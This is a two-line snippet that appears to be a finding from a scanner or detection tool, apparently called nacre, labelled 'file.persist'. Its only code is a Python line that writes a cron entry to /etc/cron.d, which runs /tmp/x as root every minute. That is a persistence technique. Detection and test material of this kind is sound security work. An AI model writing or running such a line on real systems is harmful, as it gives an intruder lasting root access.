# nacre: found file.persist
open("/etc/cron.d/x", "w").write("* * * * * root sh /tmp/x")
